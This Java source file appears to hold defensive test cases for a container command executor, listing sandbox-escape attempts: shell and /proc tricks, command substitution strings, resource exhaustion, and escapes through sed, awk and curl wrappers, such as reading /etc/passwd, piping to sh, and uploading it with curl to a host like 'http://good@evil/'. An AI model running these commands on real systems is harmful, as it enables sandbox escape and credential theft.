package dev.nexus.executor.container;

import java.util.List;

/// What a command may try by its path, its arguments, its output, or through a wrapper. What would
/// do harm prints `root:`, which the file of users begins with, or `uid=`, which `id` does.
enum CommandAbuse {
  A_SHELL("a shell", "/bin/sh", "-c", "id"),
  A_SHELL_BY_ITS_LINK("a shell by a link of the image", "/bin/rbash", "-c", "id"),
  A_PATH_UPWARDS("a shell by a path that leads upwards", "/usr/share/../bin/sh", "-c", "id"),
  A_PROCESS("a program by /proc", "/proc/self/root/usr/bin/id"),
  THE_RUNNER("the program of the runner by /proc", "/proc/1/exe", "-c", "print('uid=')"),
  WHAT_WAS_WRITTEN("a program below /tmp", "/tmp/tool"),
  A_DIRECTORY("a directory", "/usr/bin"),
  NO_PROGRAM("a file that is no program", "/etc/passwd"),
  NOTHING("a program that is not there", "/usr/bin/no-such-tool"),
  SUBSTITUTION("what a shell would substitute", "/usr/bin/printf", "%s", "$(id) `id` ; id | id"),
  OPTIONS("arguments that look like options", "/usr/bin/printf", "--", "%s", "-c", "id"),
  STANDARD_INPUT("waiting for an input", "/usr/bin/cat"),
  FLOOD("an output without an end", "/usr/bin/yes"),
  LONG_OUTPUT("an output of 100 MB", "/usr/bin/head", "-c", "100000000", "/dev/zero"),
  NO_UTF_8("an output that is no UTF-8", "/usr/bin/head", "-c", "5000", "/dev/urandom"),
  SLEEP("waiting for ever", "/usr/bin/sleep", "100000"),
  ALL_MEMORY("taking all memory", "/usr/bin/python3", "-c", "x = b'x' * (1 << 32)"),
  ITS_OWN_SIGNAL(
      "a signal to itself", "/usr/bin/python3", "-c", "import os; os.kill(os.getpid(), 15)"),
  SED_RUNS("sed-wrapper: running a program", sed("1e id")),
  SED_RUNS_A_RESULT("sed-wrapper: running what it made", sed("s/x/id/e")),
  SED_READS("sed-wrapper: reading another file", sed("r /etc/passwd")),
  SED_WRITES("sed-wrapper: writing a file", sed("w /tmp/x")),
  SED_EDITS("sed-wrapper: editing in place", "/usr/local/bin/sed-wrapper", "-i", "p", "/tmp/x"),
  SED_FROM_A_FILE("sed-wrapper: a script from a file", "/usr/local/bin/sed-wrapper", "-f", "/x"),
  AWK_RUNS("awk-wrapper: system()", awk("BEGIN { system(\"id\") }")),
  AWK_RUNS_BY_NAME(
      "awk-wrapper: system() by its name", awk("BEGIN { f = \"system\"; @f(\"id\") }")),
  AWK_PIPES("awk-wrapper: a pipe from a program", awk("BEGIN { \"id\" | getline x; print x }")),
  AWK_PIPES_OUT("awk-wrapper: a pipe to a program", awk("BEGIN { print \"id\" | \"sh\" }")),
  AWK_READS(
      "awk-wrapper: reading another file", awk("BEGIN { getline x < \"/etc/passwd\"; print x }")),
  AWK_WRITES("awk-wrapper: writing a file", awk("BEGIN { print 1 > \"/tmp/x\" }")),
  AWK_ADDS_A_FILE(
      "awk-wrapper: a file among its arguments",
      awk("BEGIN { ARGV[1] = \"/etc/passwd\"; ARGC = 2 } { print }")),
  AWK_CONNECTS("awk-wrapper: the network", awk("BEGIN { \"/inet/tcp/0/host/80\" |& getline }")),
  AWK_INCLUDES("awk-wrapper: including a file", awk("@include \"/etc/passwd\"")),
  AWK_LOADS("awk-wrapper: loading a library", awk("@load \"filefuncs\"")),
  CURL_READS_A_FILE("curl-wrapper: a file", curl("file:///etc/passwd")),
  CURL_WRITES("curl-wrapper: writing a file", curl("-o", "/tmp/x", "http://a")),
  CURL_CONFIGURES("curl-wrapper: options from a file", curl("-K", "/etc/passwd", "http://a")),
  CURL_UPLOADS("curl-wrapper: sending a file", curl("-T", "/etc/passwd", "http://a")),
  CURL_SENDS("curl-wrapper: data from a file", curl("-d", "@/etc/passwd", "http://127.0.0.1:1")),
  CURL_HEADERS("curl-wrapper: headers from a file", curl("-H", "@/etc/passwd", "http://a")),
  CURL_SOCKET("curl-wrapper: a socket of the system", curl("--unix-socket", "/x", "http://a")),
  CURL_OTHER_PROTOCOL("curl-wrapper: another protocol", curl("gopher://a")),
  CURL_OTHER_HOST("curl-wrapper: a name in front of the host", curl("http://good@evil/"));

  private final String words;
  private final String path;
  private final List<String> args;

  CommandAbuse(String words, String path, String... args) {
    this.words = words;
    this.path = path;
    this.args = List.of(args);
  }

  CommandAbuse(String words, List<String> command) {
    this.words = words;
    this.path = command.getFirst();
    this.args = command.subList(1, command.size());
  }

  private static List<String> sed(String script) {
    return List.of("/usr/local/bin/sed-wrapper", "--text", "x", script);
  }

  private static List<String> awk(String program) {
    return List.of("/usr/local/bin/awk-wrapper", "--text", "x", program);
  }

  private static List<String> curl(String... args) {
    var command = new java.util.ArrayList<>(List.of("/usr/local/bin/curl-wrapper"));
    command.addAll(List.of(args));
    return List.copyOf(command);
  }

  String words() {
    return words;
  }

  String path() {
    return path;
  }

  List<String> args() {
    return args;
  }
}
